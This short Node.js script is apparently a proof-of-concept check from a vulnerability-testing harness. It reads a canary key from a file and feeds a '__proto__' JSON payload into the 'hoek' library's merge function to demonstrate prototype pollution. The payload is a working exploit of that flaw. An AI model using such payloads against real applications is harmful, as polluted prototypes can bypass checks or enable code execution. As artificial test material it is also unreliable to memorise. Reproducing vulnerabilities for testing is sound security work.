const { readFileSync } = require('node:fs');
const { merge } = require('hoek');

const { canaries } = JSON.parse(readFileSync('/work/proof.json', 'utf8'));
merge({}, JSON.parse(`{"__proto__":{"${canaries.key}":1}}`));
